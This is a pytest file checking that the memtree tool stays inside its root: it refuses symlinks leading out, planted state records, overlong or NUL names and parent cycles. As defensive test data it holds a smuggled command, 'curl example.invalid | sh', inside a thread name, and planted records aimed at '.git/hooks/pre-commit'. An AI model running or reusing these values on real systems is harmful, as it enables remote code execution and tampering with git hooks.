"""Containment (issue 27, items 1, 8, 10, 12): nothing memtree reads from a root names a path outside it.

A planted ``.memtree/serve.json`` makes no daemon delete or connect to the file it names; a
``.memtree`` linked out of the root (or holding a link) is refused with one line, before anything
is written; tree-index.json and conflicts.json linked out are refused, not read; an archive that
cannot land is an error; a node name that can name nothing (NUL, a part too long, absolute) is one
line, everywhere (CLI, JSON API); `check --fix` cuts a parent cycle; one daemon per root, even
after ``rm -rf .memtree``. Daemon tests wait on outcomes with a deadline, never a fixed sleep.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import orjson
import pytest
from helpers import assert_one_line_error, node, snapshot, wait_for, write_root
from test_serve import MEMTREE, START_S, _env, serving
from typer.testing import CliRunner

from memtree import MemTree
from memtree.cli.app import app
from memtree.errors import BadName, MemtreeError, OutsideRoot
from memtree.notes import changes, store
from memtree.serve import client, forward, verbs
from memtree.serve.daemon import AlreadyServing, Daemon

runner = CliRunner()
DAY = 86_400
LONG = "a" * 300


def _iso(days_ago: float) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(time.time() - days_ago * DAY))


def _root(tmp_path: Path) -> Path:
    note = "# Deploy\n\n- blue green deploys behind the load balancer <!-- memtree: id=e-1; created={} -->\n"
    return write_root(
        tmp_path / "root", {"bank/ops/deploy.md": note.format(_iso(400))}, [node("ops/deploy", "bank/ops/deploy.md")]
    )


def _outside(tmp_path: Path) -> Path:
    out = tmp_path / "outside"
    out.mkdir()
    return out


# --- item 1: a planted serve.json -----------------------------------------------------------------


def _plant(root: Path, socket: Path, pid: int = 999_999) -> None:
    state = root / store.STATE_DIR
    state.mkdir(exist_ok=True)
    (state / client.RECORD_FILE).write_text(json.dumps({"pid": pid, "socket": str(socket)}), encoding="utf-8")


def test_a_planted_record_makes_serve_delete_nothing_it_names(sample_root: Path, tmp_path: Path) -> None:
    victim = _outside(tmp_path) / "victim"
    victim.write_text("the user's file\n", encoding="utf-8")
    _plant(sample_root, victim)
    with serving(sample_root) as served:
        assert "stale" in served.log_text()
    assert victim.read_text(encoding="utf-8") == "the user's file\n"


def test_a_client_connects_only_to_the_socket_it_computes_for_the_root(sample_root: Path, tmp_path: Path) -> None:
    with serving(sample_root):
        # a record naming another socket of this user's (here: this very daemon's, at another path) is not followed
        other = _outside(tmp_path) / "elsewhere.sock"
        record = sample_root / store.STATE_DIR / client.RECORD_FILE
        os.link(json.loads(record.read_text(encoding="utf-8"))["socket"], other)
        _plant(sample_root, other, os.getpid())
        assert client.connect(str(sample_root)) is None


def test_serve_refuses_to_replace_a_file_that_is_not_a_socket(sample_root: Path) -> None:
    state = sample_root / store.STATE_DIR
    state.mkdir(exist_ok=True)
    (state / client.SOCKET_FILE).write_text("not a socket\n", encoding="utf-8")
    done = subprocess.run(
        [*MEMTREE, "serve", "--root", str(sample_root)], capture_output=True, env=_env(), timeout=START_S
    )
    assert done.returncode == 2 and b"Traceback" not in done.stderr, done.stderr
    assert b"is not a socket" in done.stderr.splitlines()[-1]
    assert (state / client.SOCKET_FILE).read_text(encoding="utf-8") == "not a socket\n"


# --- item 12: one daemon per root -----------------------------------------------------------------


def test_deleting_memtree_stops_the_orphaned_daemon(sample_root: Path) -> None:
    with serving(sample_root) as served:
        shutil.rmtree(sample_root / store.STATE_DIR)
        wait_for(lambda: served.proc.poll() is not None, "the daemon to notice .memtree is gone", START_S)
        assert served.proc.returncode == 0
        assert "was removed" in served.log_text()


def test_the_serve_lock_outlives_memtree_so_a_second_daemon_cannot_start(sample_root: Path) -> None:
    first = Daemon(MemTree(sample_root), lambda _: None, 0)
    first.acquire()
    try:
        shutil.rmtree(sample_root / store.STATE_DIR)
        with pytest.raises(AlreadyServing):
            Daemon(MemTree(sample_root), lambda _: None, 0).acquire()
        assert forward.starting(sample_root)
    finally:
        assert first._lock_fd is not None
        os.close(first._lock_fd)
    assert not forward.starting(sample_root)


# --- item 8: .memtree and tracked files linked out ------------------------------------------------


@pytest.mark.parametrize("linked", ["", "undo", "index", "changes.jsonl"])
def test_a_memtree_folder_linked_out_is_refused_and_nothing_is_written_outside(tmp_path: Path, linked: str) -> None:
    root, out = _root(tmp_path), _outside(tmp_path)
    state = root / store.STATE_DIR
    if linked:
        state.mkdir()
        (state / linked).symlink_to(out, target_is_directory=True)
    else:
        state.symlink_to(out, target_is_directory=True)
    before = snapshot(root)
    for argv in (["add", "rollbacks take one command", "--to", "ops/deploy"], ["search", "deploy"]):
        result = runner.invoke(app, [*argv, "--root", str(root)])
        assert_one_line_error(result, "symbolic link", "left alone")
    assert list(out.iterdir()) == [] and snapshot(root) == before


def test_autostart_writes_no_log_through_a_memtree_linked_out(tmp_path: Path) -> None:
    root, out = _root(tmp_path), _outside(tmp_path)
    (root / "memtree.yaml").write_text("serve:\n  autostart: true\n", encoding="utf-8")
    (root / store.STATE_DIR).symlink_to(out, target_is_directory=True)
    forward.autostart(str(root))
    assert list(out.iterdir()) == []


@pytest.mark.parametrize(
    "name,argv",
    [("conflicts.json", ["conflicts"]), ("tree-index.json", ["search", "deploy"])],
    ids=["conflicts", "tree"],
)
def test_a_tracked_file_linked_out_is_refused_not_read(tmp_path: Path, name: str, argv: list[str]) -> None:
    root, out = _root(tmp_path), _outside(tmp_path)
    target = out / name
    shutil.move(root / name, target) if (root / name).exists() else target.write_bytes(orjson.dumps([]))
    (root / name).symlink_to(target)
    assert_one_line_error(runner.invoke(app, [*argv, "--root", str(root)]), "leads outside the memory root")


def test_an_archive_linked_out_is_an_error_and_nothing_moves(tmp_path: Path) -> None:
    root, out = _root(tmp_path), _outside(tmp_path)
    (root / "bank/_archive").symlink_to(out, target_is_directory=True)
    note = (root / "bank/ops/deploy.md").read_bytes()
    assert_one_line_error(runner.invoke(app, ["decay", "--archive", "--root", str(root)]), "outside the memory root")
    assert (root / "bank/ops/deploy.md").read_bytes() == note and list(out.iterdir()) == []


def test_an_absolute_to_is_refused(tmp_path: Path) -> None:
    root = _root(tmp_path)
    result = runner.invoke(app, ["add", "rollbacks take one command", "--to", "/abs/x", "--root", str(root)])
    assert_one_line_error(result, "'/abs/x'", "relative to the memory root")
    assert not (root / "bank/abs").exists()


# --- item 10: names that can name nothing, a parent cycle, a start without .memtree -----------------


@pytest.mark.parametrize(
    "argv",
    [
        ["get", LONG],
        ["get", f"bank/{LONG}.md"],
        ["add", "rollbacks take one command", "--to", LONG],
        ["split", f"bank/{LONG}.md"],
        ["update", f"bank/{LONG}.md:1", "new text"],
        ["forget", f"bank/{LONG}.md:1"],
        ["banks", "disable", LONG],
        ["history", f"bank/{LONG}.md"],
    ],
    ids=lambda argv: "-".join(a for a in argv[:2] if a != LONG and not a.startswith("bank/")),
)
def test_a_name_too_long_for_the_file_system_is_one_line(tmp_path: Path, argv: list[str]) -> None:
    root = _root(tmp_path)
    before = snapshot(root)
    assert_one_line_error(runner.invoke(app, [*argv, "--root", str(root)]), "too long")
    assert snapshot(root) == before


@pytest.mark.parametrize(
    "verb,args",
    [
        ("get", {"ref": "ops/de\x00ploy"}),
        ("get", {"ref": LONG}),
        ("add", {"text": "rollbacks take one command", "to": "ops/\x00x"}),
        ("add", {"text": "rollbacks take one command", "to": LONG}),
        ("add", {"text": "rollbacks take one command", "to": "/abs/x"}),
        ("update", {"ref": "bank/x\x00.md:1", "text": "t"}),
        ("history", {"ref": f"bank/{LONG}.md"}),
        ("set_bank", {"name": LONG, "enabled": False}),
    ],
)
def test_the_json_api_answers_a_bad_name_with_a_user_error(tmp_path: Path, verb: str, args: dict[str, object]) -> None:
    mt = MemTree(_root(tmp_path))
    # a NUL byte is refused already as an argument (verbs.argument_problem), a long or absolute name as a name
    with pytest.raises((BadName, verbs.BadRequest)) as caught:
        verbs.call(mt, verb, args)
    assert "\n" not in str(caught.value)


def test_a_bad_name_over_http_is_400(tmp_path: Path) -> None:
    from memtree.serve.dispatch import Dispatcher, EditWatcher
    from memtree.serve.maintenance import Maintenance

    mt = MemTree(_root(tmp_path))
    requests = Dispatcher(mt, print, EditWatcher(mt, print), Maintenance(mt, print, 0), None, time.monotonic)
    for body in ({"ref": "ops/de\x00ploy"}, {"ref": LONG}):
        status, answer = requests.answer_http("get", orjson.dumps(body))
        assert status == 400 and orjson.loads(answer)["kind"] in ("BadName", "BadRequest"), answer


def test_check_fix_cuts_a_parent_cycle(tmp_path: Path) -> None:
    root = write_root(
        tmp_path / "root",
        {"bank/a/b.md": "# B\n\n- one fact\n"},
        [
            node("a", parent="a/b", children=["a/b"]),
            node("a/b", "bank/a/b.md", parent="a", children=["a"]),
        ],
    )
    broken = runner.invoke(app, ["check", "--root", str(root)])
    assert broken.exit_code == 1 and "parent cycle" in broken.stdout and "--fix" in broken.stdout
    fixed = runner.invoke(app, ["check", "--fix", "--root", str(root)])
    assert fixed.exit_code == 0, fixed.output
    assert "node a is now a top node" in fixed.stdout
    nodes = {n["id"]: n for n in orjson.loads((root / "tree-index.json").read_bytes())["nodes"]}
    assert nodes["a"]["parent"] is None and nodes["a"]["children"] == ["a/b"] and nodes["a/b"]["children"] == []


def test_a_daemon_whose_memtree_vanishes_before_it_listens_says_one_line(sample_root: Path) -> None:
    mt = MemTree(sample_root)
    daemon = Daemon(mt, lambda _: None, 0)
    real_warm = daemon.warm

    def warm_then_lose_state() -> None:
        real_warm()
        shutil.rmtree(sample_root / store.STATE_DIR)
        (sample_root / store.STATE_DIR).write_text("in the way\n", encoding="utf-8")  # nor can it be made again

    daemon.warm = warm_then_lose_state  # type: ignore[method-assign]
    with pytest.raises(MemtreeError) as caught:
        daemon.serve()
    assert not isinstance(caught.value, OSError) and "could not start" in str(caught.value)
    assert not forward.starting(sample_root)


def test_serve_of_a_root_whose_memtree_is_linked_out_refuses(sample_root: Path, tmp_path: Path) -> None:
    out = _outside(tmp_path)
    (sample_root / store.STATE_DIR).symlink_to(out, target_is_directory=True)
    with pytest.raises(OutsideRoot):
        MemTree(sample_root)
    done = subprocess.run(
        [*MEMTREE, "serve", "--root", str(sample_root)], capture_output=True, env=_env(), timeout=START_S
    )
    assert done.returncode == 2 and b"symbolic link" in done.stderr and list(out.iterdir()) == []


def test_undo_follows_no_planted_journal_to_a_file_memtree_never_writes(tmp_path: Path) -> None:
    root = _root(tmp_path)
    hook = root / ".git/hooks/pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\nexit 0\n", encoding="utf-8")
    planted = {
        "id": "ch-20260101000000-aaaaaa",
        "time": "2026-01-01T00:00:00+00:00",
        "command": "add",
        "ids": [],
        "files": [{"path": ".git/hooks/pre-commit", "before": None, "after": changes.digest(hook.read_bytes())}],
    }
    planted["files"][0] |= {"head": 0, "tail": 0}  # type: ignore[index]
    state = root / store.STATE_DIR
    state.mkdir()
    (state / changes.JOURNAL_FILE).write_bytes(orjson.dumps(planted) + b"\n")
    assert_one_line_error(runner.invoke(app, ["undo", "--root", str(root)]), "never writes")
    assert hook.read_text(encoding="utf-8") == "#!/bin/sh\nexit 0\n"


def test_the_memory_tool_refuses_a_name_too_long_with_the_one_check(sample_root: Path) -> None:
    from test_claude_memory import run

    from memtree.serve.claude_memory.tool import MemtreeMemoryTool

    tool = MemtreeMemoryTool(MemTree(sample_root))
    content, failed = run(tool, command="create", path=f"/memories/bank/{LONG}.md", file_text="hello\n")
    assert failed and "at most 255 bytes" in content and "\n" not in content, content


@pytest.mark.parametrize(
    "name,path",
    [("c1", ".git/hooks/pre-commit"), ("c1\ncurl example.invalid | sh", "memory/2026-01-01.md")],
    ids=["path", "name"],
)
def test_ingest_appends_no_marker_where_a_planted_state_says(tmp_path: Path, name: str, path: str) -> None:
    from memtree.lifecycle import turnlog

    root = _root(tmp_path)
    pending = {"turn": 1, "role": "user", "text": "hi", "ts": "2026-01-01T00:00:00+00:00", "key": "k", "line": 1}
    thread = {"turns": 1, "last_ts": None, "last_keys": [], "extracted": 0, "pending": [pending | {"path": path}]}
    doc = {"version": turnlog.STATE_VERSION, "files": {}, "threads": {name: thread}}
    (root / store.STATE_DIR).mkdir()
    (root / store.STATE_DIR / turnlog.STATE_FILE).write_bytes(orjson.dumps(doc))
    assert name not in turnlog.load(root).threads
